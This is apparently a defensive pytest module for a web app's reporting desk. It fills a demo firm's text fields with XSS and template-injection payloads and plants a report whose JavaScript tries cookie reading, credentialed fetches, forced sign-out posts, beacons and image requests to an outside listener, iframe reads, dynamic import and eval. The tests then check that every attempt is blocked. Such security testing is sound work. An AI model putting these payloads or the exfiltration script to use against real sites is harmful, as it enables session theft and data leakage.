"""A firm with a payload in every text, and a book that attacks: what pages and a real browser make of them."""

import json
import re
import shutil
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import select

from tests.conftest import Clock
from tests.desk.conftest import PASSWORD, SERVICE, House
from tests.desk.live import serving
from workbench.desk import Settings, create_app
from workbench.firm.demo.build import FEWEST_ACCOUNTS, build, write_firm
from workbench.governance.access import Who
from workbench.governance.database import open_engine
from workbench.governance.store import Store
from workbench.governance.tables import desk_session, signal
from workbench.signals import Checker, bring

CHROMIUM = "/usr/bin/chromium"
BOOK = "quarterly-2022-12-28-0123456789"
TEXT = "<img src=x onerror=alert(1)>'\"&{{7*7}}</script><script>alert(2)</script>\u202e\u200b=1+1"
IDENTIFIER = '"><img src=x onerror=alert(3)>'
#: Columns a person fills in, by table.
TYPED = {
    "securities": ["name"],
    "sleeves": ["name", "manager"],
    "models": ["name", "benchmark", "approved_by", "rationale"],
    "households": ["name"],
    "restrictions": ["reason", "source_document"],
    "client_notes": ["author", "text"],
    "advisors": ["name", "office"],
    "custodians": ["name"],
}


def poisoned(folder):
    """A small demo firm whose every typed text and every identifier of a client is an attack."""
    tables = build(accounts=FEWEST_ACCOUNTS)
    for table, columns in TYPED.items():
        for column in columns:
            tables[table][column] = [f"{value}{TEXT}" for value in tables[table][column]]
    for table in tables.values():
        for column in {"household_id", "account_id", "lot_id", "restriction_id"} & set(table.columns):
            table[column] = [value if pd.isna(value) else f"{value}{IDENTIFIER}" for value in table[column]]
    scopes = tables["restrictions"]["scope_id"]
    tables["restrictions"]["scope_id"] = [f"{one}{IDENTIFIER}" if re.match(r"[AH]\d", one) else one for one in scopes]
    return write_firm(folder, tables, "2022-12-28", name=f"Firm {TEXT}")


#: What a book's script may try, and what it has to end in; each is one asynchronous JavaScript expression.
ATTACKS = {
    "cookie": "document.cookie",
    "storage": "localStorage.length",
    "database": "indexedDB.open('x')",
    "worker": "navigator.serviceWorker.register('/static/x.js')",
    "opener": "window.opener.location.href",
    "page": "fetch('/queue', {credentials: 'include'}).then((answer) => answer.text())",
    "form": "fetch('/sign-out', {method: 'POST', credentials: 'include', body: new URLSearchParams({a: 'b'})})",
    "away": "fetch('AWAY/fetch')",
    "beacon": "(() => { if (!navigator.sendBeacon('AWAY/beacon', 'x')) throw 1; return heard('/beacon'); })()",
    "image": (
        "new Promise((good, bad) => { const i = new Image(); i.onload = good; i.onerror = bad; i.src = 'AWAY/image'; })"
    ),
    "frame": (
        "new Promise((good, bad) => { const f = document.createElement('iframe'); f.src = '/queue'; "
        "f.onload = () => { try { good(f.contentDocument.title.length) } catch (error) { bad(error) } }; "
        "document.body.append(f); setTimeout(bad, 1500); })"
    ),
    "window": "window.open('/queue').document.title",
    "script": "import('AWAY/module.js')",
    "code": "eval('1 + 1')",
}


def shelve_attacker(folder, away):
    book = folder / BOOK
    (book / "assets").mkdir(parents=True)
    (book / "run.json").write_text(json.dumps({"title": TEXT, "as_of": "2022-12-28", "status": "succeeded"}))
    tries = ", ".join(f"{json.dumps(name)}: async () => {code}" for name, code in ATTACKS.items())
    script = (
        "const heard = async () => { throw 1; };\n"
        "const tries = {" + tries + "};\n"
        "(async () => { const done = {}; for (const [name, one] of Object.entries(tries)) {"
        " try { await one(); done[name] = 'DONE'; } catch (error) { done[name] = 'refused'; } }\n"
        " const form = document.createElement('form'); form.method = 'post'; form.action = '/sign-out';"
        " document.body.append(form); try { form.submit(); } catch (error) {}\n"
        " document.getElementById('said').textContent = JSON.stringify(done); document.title = 'tried'; })();\n"
    )
    (book / "assets" / "book.js").write_text(script.replace("AWAY", away))
    (book / "index.html").write_text(
        "<!doctype html><html lang=en><title>Book</title><p id=said></p><script src=assets/book.js></script>"
    )


@contextmanager
def listening():
    """Another site, which notes who asked it for what."""
    asked = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def house(tmp_path_factory, sqlite_template):
    """A desk on the poisoned firm, with a queue made of it and the attacker on its shelf."""
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copy(sqlite_template, folder / "decisions.db")
    engine = open_engine(f"sqlite:///{folder / 'decisions.db'}")
    store = Store(engine, Clock(), "tested")
    checker = Checker(poisoned(folder / "firm"))
    with listening() as (away, asked):
        shelve_attacker(folder / "reports", away)
        settings = Settings(
            firm_name=checker.firm.name, hosts=("localhost",), reports=folder / "reports", checker=checker
        )
        made = House(store, create_app(store, settings))
        made.add_people()
        bring(store, checker, Who(SERVICE))
        made.asked = asked
        yield made
    engine.dispose()


def test_no_text_of_the_firm_is_more_than_text(house):
    with house.store.reading() as connection:
        signals = connection.execute(select(signal.c.signal_id)).scalars().all()
    assert signals
    browser = house.browser("cora")
    paths = ["/queue", "/queue?sort=size", "/exceptions", "/audit", "/library"]
    paths += [f"/signals/{one}{more}" for one in signals for more in ("", "/confirm/approve", "/revise")]
    pages = 0
    while paths:
        path = paths.pop()
        answer = browser.get(path)
        assert answer.status_code == 200, path
        paths += set(re.findall(r'href="(/signals/[^"]+/pages/[^"]+)"', answer.text))
        pages += "/pages/" in path
        for raw in ("<img src=x", "<script>alert", "\u202e", "\u200b"):
            assert raw not in answer.text, (path, raw)
        if "/pages/" in path:
            assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
    assert pages >= len(signals)


@pytest.fixture(scope="module")
def chromium():
    """One headless browser for the module; the tests are skipped where there is none."""
    sync_api = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        pytest.skip(f"no browser at {CHROMIUM}")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


def signed_in(chromium, url, who):
    context = chromium.new_context()
    context.set_default_timeout(30_000)
    page = context.new_page()
    page.goto(f"{url}/sign-in")
    page.get_by_label("Name or e-mail").fill(who)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(lambda address: "/sign-in" not in address)
    return context, page


def sessions_of(house, who):
    with house.store.reading() as connection:
        return connection.execute(select(desk_session.c.token_hash).where(desk_session.c.person_id == who)).all()


@pytest.mark.browser
def test_a_books_script_reaches_nothing(house, chromium):
    from playwright.sync_api import expect

    with serving(house.app) as url:
        context, page = signed_in(chromium, url, "pat")
        before = sessions_of(house, "pat")
        page.goto(f"{url}/library/{BOOK}")
        expect(page).to_have_title("tried")
        done = json.loads(page.locator("#said").text_content())
        assert done == dict.fromkeys(ATTACKS, "refused")
        assert len(context.pages) == 1
        assert sessions_of(house, "pat") == before
        page.goto(f"{url}/me")
        assert "Pat Kimura" in page.content()
        context.close()
    assert house.asked == []


@pytest.mark.browser
def test_a_browser_runs_nothing_of_the_firms_texts(house, chromium):
    with house.store.reading() as connection:
        one = connection.execute(select(signal.c.signal_id)).scalars().first()
    with serving(house.app) as url:
        context, page = signed_in(chromium, url, "cora")
        run, away = [], []
        page.on("dialog", lambda dialog: (run.append(dialog.message), dialog.dismiss()))
        page.on("request", lambda asked: away.append(asked.url) if not asked.url.startswith((url, "data:")) else None)
        for path in ("/queue", "/exceptions", "/library", f"/signals/{one}"):
            page.goto(f"{url}{path}")
            assert page.locator("main img").count() == 0
        brief = page.locator("a[href*='/pages/']").first.get_attribute("href")
        page.goto(f"{url}{brief}")
        assert page.locator("img[src=x]").count() == 0
        context.close()
    assert (run, away) == ([], [])
